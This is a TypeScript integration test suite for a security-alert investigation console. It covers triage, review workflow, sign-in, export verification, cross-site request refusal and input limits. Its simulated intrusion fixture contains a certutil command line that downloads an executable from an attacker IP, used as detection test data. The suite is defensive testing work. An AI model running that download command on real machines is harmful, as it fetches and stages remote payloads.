import { readFileSync, writeFileSync } from "node:fs";
import { request } from "node:http";
import { join } from "node:path";
import {
  ApiError,
  allRoutes,
  exportInvestigation,
  getEvent,
  getReviews,
  getSession,
  getStatus,
  StreamMessage,
  signOut,
  urlOf,
  verifyLedger,
} from "@quaestor/api";
import { logon, processStart } from "@quaestor/telemetry/testing";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";
import { quaestor } from "./command-line.ts";
import { type RunningConsole, type SignedIn, startConsole } from "./running-console.ts";

/** The problem a call is answered with. */
async function problemOf(work: Promise<unknown>): Promise<ApiError["problem"]> {
  const error: unknown = await work.then(
    () => null,
    (failure: unknown) => failure,
  );
  if (!(error instanceof ApiError)) throw new Error(`the call was not refused: ${String(error)}`);
  return error.problem;
}

const OpenApi = z.object({
  openapi: z.literal("3.1.0"),
  paths: z.record(z.string(), z.record(z.string(), z.object({ operationId: z.string() }))),
});

const recent = (secondsAgo: number): string => new Date(Date.now() - secondsAgo * 1000).toISOString();

/** An intrusion: a network logon, a captured command in its session, and a child of it. */
function intrusion(): string {
  const at = recent(60);
  const events = [
    logon({ at: recent(61), logonId: "0x51f3a", sourceIp: "10.9.8.7" }),
    processStart({ at, pid: 4242 }),
    processStart({
      at: recent(59),
      pid: 4300,
      parentPid: 4242,
      image: "C:\\Windows\\System32\\certutil.exe",
      commandLine: "certutil.exe -urlcache -f http://10.9.8.7/a a.exe",
      parentImage: "C:\\Windows\\System32\\cmd.exe",
    }),
  ];
  return `${events.map((event) => event.raw).join("\n")}\n`;
}

describe("an alert's way over HTTP", () => {
  let running: RunningConsole;
  let analyst: SignedIn;
  let lead: SignedIn;
  let auditor: SignedIn;
  let id: string;
  const file = intrusion();
  beforeAll(async () => {
    running = await startConsole();
    analyst = await running.signIn("analyst");
    lead = await running.signIn("lead");
    auditor = await running.signIn("auditor");
  });
  afterAll(() => running.stop());

  const answerAll = async (who: SignedIn, verdict: "lower_concern" | "unresolved" | null): Promise<void> => {
    const view = await who.view(id);
    for (const question of view.questions)
      await who.command(id, {
        kind: "answer",
        question: question.id,
        verdict: verdict ?? question.finding.verdict,
        rationale: "Looked at it.",
        alertId: view.selectedAlertId,
        window: "around",
        evidence: [],
      });
  };

  it("signs in by a link once, and refuses its second use", async () => {
    const token = running.linkFor("analyst");
    const spend = () =>
      fetch(`${running.url}/api/v1/session`, {
        method: "POST",
        headers: { origin: running.url, "content-type": "application/json" },
        body: JSON.stringify({ token }),
      });
    const first = await spend();
    expect(first.status).toBe(200);
    expect(first.headers.get("set-cookie")).toMatch(/HttpOnly.*SameSite=Strict/);
    const second = await spend();
    expect(second.status).toBe(401);
    expect(second.headers.get("content-type")).toContain("application/problem+json");
    expect(await second.json()).toMatchObject({ code: "LINK_SPENT" });
  });

  it("raises an alert from an upload and shows it at the top of the queue", async () => {
    const report = await analyst.upload("intrusion.ndjson", file);
    expect(report).toMatchObject({ records: 3, stored: 3, duplicates: 0, quarantined: 0, alerts: 1, problem: null });
    await running.backend.settled();
    const queue = await analyst.queue();
    expect(queue).toMatchObject({ total: 1, counts: { open: 1, unassigned: 1 } });
    const [item] = queue.items;
    expect(item).toMatchObject({ state: "open", alerts: 1, recommendation: "escalate" });
    id = item?.id ?? "";
  });

  it("takes the same file again without doubling anything", async () => {
    expect(await analyst.upload("again.ndjson", file)).toMatchObject({ stored: 0, duplicates: 3, alerts: 0 });
    expect((await analyst.view(id)).alerts).toHaveLength(1);
  });

  it("shows six questions with findings, children, tree, timeline and gate in one round trip", async () => {
    const view = await analyst.view(id);
    expect(view.questions).toHaveLength(6);
    expect(view.failures).toEqual([]);
    expect(view.questions.find((question) => question.id === "q5")?.finding.verdict).toBe("escalate");
    expect(view.questions.find((question) => question.id === "q4")?.finding.headline).toContain("10.9.8.7");
    expect(view.tree.map((node) => [node.role, node.name])).toEqual([
      ["broker", "WmiPrvSE.exe"],
      ["alert", "cmd.exe"],
      ["descendant", "certutil.exe"],
    ]);
    expect(new Set(view.timeline.marks.map((mark) => mark.lane))).toEqual(new Set(["alerts", "process", "logon"]));
    expect(view.gate.recommendation).toBe("escalate");
  });

  it("shows an event as received beside as normalised", async () => {
    const view = await analyst.view(id);
    const event = await analyst.call(getEvent, { params: { id: view.sourceEventId }, query: {}, body: {} });
    expect(JSON.parse(event.raw?.text ?? "")).toMatchObject({ winlog: { event_id: "1" } });
    expect(event.fields.find((field) => field.field === "process.pid")).toMatchObject({
      values: [{ text: "4242", length: 4 }],
      count: 1,
    });
    expect(event.fields.find((field) => field.field === "process.pid")?.from).toContain("ProcessId");
  });

  it("answers all six, refuses a close without recurrence and says why", { timeout: 30_000 }, async () => {
    await answerAll(analyst, "lower_concern");
    expect((await analyst.view(id)).questions.every((question) => question.answer !== null)).toBe(true);
    const refused = await problemOf(analyst.command(id, { kind: "decide", decision: "close", justification: "ok" }));
    expect(refused).toMatchObject({ status: 422, code: "REFUSED", refusal: "CLOSE_NOT_SUPPORTED" });
    expect(refused.detail).toMatch(/recur/i);
    expect((await analyst.view(id)).state).toBe("in_work");
  });

  it("shows what others did when a command names an old version, and keeps nothing of it", async () => {
    const { version } = await analyst.view(id);
    await lead.command(id, { kind: "note", text: "Seen." });
    await lead.command(id, { kind: "assign", accountId: "analyst" });
    await lead.command(id, { kind: "take" });
    const conflict = await problemOf(
      analyst.command(id, { kind: "decide", decision: "escalate", justification: "" }, version),
    );
    expect(conflict).toMatchObject({ status: 409, code: "VERSION_CONFLICT" });
    expect(conflict.currentVersion).toBeGreaterThan(version);
    expect(conflict.changed?.join("\n")).toContain("Lead wrote a note");
    expect((await analyst.view(id)).state).toBe("in_work");
  });

  it("escalates, refuses a review of one's own, returns with points, decides again and is approved", {
    timeout: 30_000,
  }, async () => {
    await answerAll(analyst, null);
    await analyst.command(id, { kind: "decide", decision: "escalate", justification: "Captured and with a child." });
    expect((await analyst.view(id)).state).toBe("submitted");
    expect(await problemOf(analyst.command(id, { kind: "approve", reason: "" }))).toMatchObject({ code: "REFUSED" });
    const reviews = await lead.call(getReviews, { params: {}, query: {}, body: {} });
    expect(reviews).toMatchObject({ waiting: 1, own: 0, items: [{ id, decision: "escalate", own: false }] });
    await lead.command(id, {
      kind: "return",
      reason: "Look again.",
      points: [{ question: "q4", text: "From where?" }],
    });
    const returned = await analyst.view(id);
    expect(returned.state).toBe("returned");
    expect(returned.reviews[0]?.points).toEqual([{ question: "q4", text: "From where?" }]);
    await analyst.command(id, {
      kind: "answer",
      question: "q4",
      verdict: "escalate",
      rationale: "From 10.9.8.7.",
      alertId: returned.selectedAlertId,
      window: "around",
      evidence: [returned.sourceEventId],
    });
    await analyst.command(id, { kind: "decide", decision: "escalate", justification: "Now with its source." });
    await lead.command(id, { kind: "approve", reason: "Agreed." });
    expect((await analyst.view(id)).state).toBe("approved");
  });

  it("refuses a lead's review of what the lead decided", async () => {
    await analyst.upload(
      "another.ndjson",
      `${processStart({ at: recent(30), host: "WS77.corp.example", pid: 900 }).raw}\n`,
    );
    const other = (await analyst.queue()).items.find((item) => item.id !== id)?.id ?? "";
    await lead.command(other, { kind: "decide", decision: "escalate", justification: "By its shape." });
    const refused = await problemOf(lead.command(other, { kind: "approve", reason: "" }));
    expect(refused).toMatchObject({ status: 422, refusal: "OWN_DECISION" });
    expect(await lead.call(getReviews, { params: {}, query: {}, body: {} })).toMatchObject({ waiting: 0, own: 1 });
  });

  it("lets an auditor read, verify and export, and nothing else", async () => {
    const view = await auditor.view(id);
    expect(await problemOf(auditor.command(id, { kind: "take" }))).toMatchObject({ status: 403, code: "FORBIDDEN" });
    await expect(auditor.upload("x.ndjson", intrusion())).rejects.toThrow("may not import");
    const chain = await auditor.call(verifyLedger, { params: {}, query: {}, body: {} });
    expect(chain).toMatchObject({ ok: true, firstBad: null });
    expect(chain.length).toBeGreaterThan(view.version);
    const made = await auditor.call(exportInvestigation, { params: { id }, query: {}, body: {} });
    expect(made.bytes).toBeGreaterThan(1000);
  });

  it("lets an analyst assign nobody", async () => {
    const refused = await problemOf(analyst.command(id, { kind: "assign", accountId: "lead" }));
    expect(refused).toMatchObject({ status: 422, refusal: "ROLE_NOT_ALLOWED" });
  });

  it("exports a bundle that verifies with the own key, is not trusted without, and names a flipped byte", async () => {
    const made = await analyst.call(exportInvestigation, { params: { id }, query: {}, body: {} });
    const response = await analyst.raw(made.href);
    expect(response.headers.get("content-type")).toBe("application/zip");
    expect(response.headers.get("content-disposition")).toContain(made.fileName);
    const zip = Buffer.from(await response.arrayBuffer());
    expect(zip.length).toBe(made.bytes);
    const path = join(running.dataDir, "case.zip");
    writeFileSync(path, zip);
    const own = await quaestor(["verify", "--data", running.dataDir, path]);
    expect(own).toMatchObject({ code: 0, err: "" });
    expect(own.out).toContain(made.keyId);
    const elsewhere = await quaestor(["verify", "--data", join(running.dataDir, "nowhere"), path]);
    expect(elsewhere.code).toBe(2);
    expect(
      (await quaestor(["verify", "--data", join(running.dataDir, "nowhere"), "--trust", made.keyId, path])).code,
    ).toBe(0);
    const flipped = Buffer.from(zip);
    const at = Math.floor(flipped.length / 3);
    flipped.writeUInt8(flipped.readUInt8(at) ^ 0x01, at);
    writeFileSync(path, flipped);
    const damaged = await quaestor(["verify", "--json", "--data", running.dataDir, path]);
    expect([1, 3]).toContain(damaged.code);
    expect(JSON.parse(damaged.out).failures[0].path).toEqual(expect.stringMatching(/\S/));
    expect(readFileSync(path).length).toBe(zip.length);
  });

  it("tells open pages what went stale, and nothing of the data", async () => {
    const response = await analyst.raw("/api/v1/stream");
    expect(response.headers.get("content-type")).toContain("text/event-stream");
    const reader = response.body?.pipeThrough(new TextDecoderStream()).getReader();
    await reader?.read();
    await lead.command(id, { kind: "viewed_pivot", pivotId: "none" }).catch(() => null);
    await analyst.upload("late.ndjson", `${processStart({ at: recent(5), host: "WS99.corp.example" }).raw}\n`);
    let text = "";
    while (!text.includes("sources")) text += (await reader?.read())?.value ?? "";
    await reader?.cancel();
    const messages = [...text.matchAll(/^data: (.*)$/gm)].map((match) =>
      StreamMessage.parse(JSON.parse(match[1] ?? "")),
    );
    expect(messages.map((message) => message.topic)).toEqual(
      expect.arrayContaining(["rules", "investigation", "queue", "sources"]),
    );
    expect(text).not.toContain("WS99");
  });

  it("counts for the frame of every page", async () => {
    const status = await analyst.call(getStatus, { params: {}, query: {}, body: {} });
    expect(status).toMatchObject({ waitingForReview: 1, open: 1, sample: { loaded: false, events: 0 } });
  });

  it("ends a session for good", async () => {
    const passing = await running.signIn("analyst");
    expect((await passing.call(getSession, { params: {}, query: {}, body: {} })).account.id).toBe("analyst");
    await passing.call(signOut, { params: {}, query: {}, body: {} });
    expect(await problemOf(passing.queue())).toMatchObject({ status: 401, code: "NOT_SIGNED_IN" });
  });
});

describe("the doors", () => {
  let running: RunningConsole;
  let analyst: SignedIn;
  beforeAll(async () => {
    running = await startConsole();
    analyst = await running.signIn("analyst");
  });
  afterAll(() => running.stop());

  it("serves every route of the contract, and none to strangers but those meant for them", async () => {
    for (const route of allRoutes) {
      const path = urlOf(route.path, { id: "none", pivot: "none" }, {});
      const init = { method: route.method, ...(route.method === "POST" ? { body: "{}" } : {}) };
      const headers = { "content-type": "application/json" };
      const stranger = await fetch(running.url + path, { ...init, headers: { ...headers, origin: running.url } });
      expect([route.id, stranger.status]).toEqual([route.id, route.access === "public" ? 400 : 401]);
      if (route.id === "signOut") continue;
      const answer = await analyst.raw(path, { ...init, headers });
      const body: unknown = await answer.json();
      expect([route.id, JSON.stringify(body)]).not.toEqual([route.id, expect.stringContaining("There is nothing at")]);
      expect([route.id, answer.status]).toEqual([route.id, expect.toSatisfy((status: number) => status < 500)]);
    }
  });

  it("prints an OpenAPI description that names every route", async () => {
    const printed = OpenApi.parse(await (await fetch(`${running.url}/api/v1/openapi.json`)).json());
    for (const route of allRoutes) {
      const path = route.path.replaceAll(/:([a-z]+)/gi, "{$1}");
      expect(printed.paths[path]?.[route.method.toLowerCase()]?.operationId).toBe(route.id);
    }
  });

  it("refuses what another site made a browser send", async () => {
    const send = (headers: Record<string, string>) =>
      fetch(`${running.url}/api/v1/imports?name=x`, {
        method: "POST",
        headers: { cookie: analyst.cookie, ...headers },
        body: "{}",
      });
    const forgeries: Record<string, string>[] = [
      { origin: "https://evil.example" },
      { "sec-fetch-site": "cross-site", origin: running.url },
      { "sec-fetch-site": "same-site" },
      { origin: "null" },
      {},
    ];
    for (const headers of forgeries) {
      const response = await send(headers);
      expect([headers, response.status, await response.json()]).toMatchObject([headers, 403, { code: "CROSS_SITE" }]);
    }
  });

  it("answers under no name but its own", async () => {
    const status = (host: string) =>
      new Promise<number>((resolve, reject) => {
        const { port } = new URL(running.url);
        request({ host: "127.0.0.1", port, path: "/healthz", headers: { host } }, (response) => {
          response.resume();
          resolve(response.statusCode ?? 0);
        })
          .on("error", reject)
          .end();
      });
    expect(await status("evil.example")).toBe(403);
    expect(await status("localhost:1")).toBe(200);
    expect(await status("127.0.0.1")).toBe(200);
  });

  it("sends a strict content security policy with everything", async () => {
    for (const path of ["/", "/api/v1/openapi.json", "/nowhere"]) {
      const policy = (await fetch(running.url + path)).headers.get("content-security-policy") ?? "";
      expect(policy).toContain("default-src 'self'");
      expect(policy).not.toContain("unsafe-eval");
    }
  });

  it.each([
    ["not JSON", "{"],
    ["no object", '"x"'],
    ["an unknown command", '{"expectedVersion":1,"command":{"kind":"explode"}}'],
    ["a version that is none", '{"expectedVersion":"1","command":{"kind":"take"}}'],
  ])("refuses a body that is %s, and says what is wrong", async (_, body) => {
    const response = await analyst.raw("/api/v1/investigations/none/commands", {
      method: "POST",
      body,
      headers: { "content-type": "application/json" },
    });
    expect(response.status).toBe(400);
    expect(await response.json()).toMatchObject({ code: "BAD_REQUEST", detail: expect.stringMatching(/\S/) });
  });

  it("refuses a body larger than a command is, and an upload larger than allowed", async () => {
    const large = JSON.stringify({ expectedVersion: 1, command: { kind: "note", text: "x".repeat(2_000_000) } });
    const response = await analyst.raw("/api/v1/investigations/none/commands", {
      method: "POST",
      body: large,
      headers: { "content-type": "application/json" },
    });
    expect(response.status).toBe(413);
    const small = await startConsole({ config: { maxUploadBytes: 1000 } });
    try {
      const who = await small.signIn("analyst");
      await expect(who.upload("big.ndjson", "x".repeat(1001))).rejects.toThrow("At most 1000 bytes");
      const unannounced = who.upload(
        "big.ndjson",
        (async function* () {
          for (let at = 0; at < 10; at += 1) yield Buffer.from(`${"x".repeat(999)}\n`);
        })(),
      );
      await expect(unannounced).rejects.toThrow("At most 1000 bytes");
    } finally {
      await small.stop();
    }
  });

  it("says that an export, an event, a rule and a quarantined record are not there", async () => {
    for (const path of ["exports/none", "events/none", "rules/none", "investigations/none"]) {
      const response = await analyst.raw(`/api/v1/${path}`);
      expect([path, response.status]).toEqual([path, 404]);
      expect(await response.json()).toMatchObject({ code: "NOT_FOUND" });
    }
  });
});
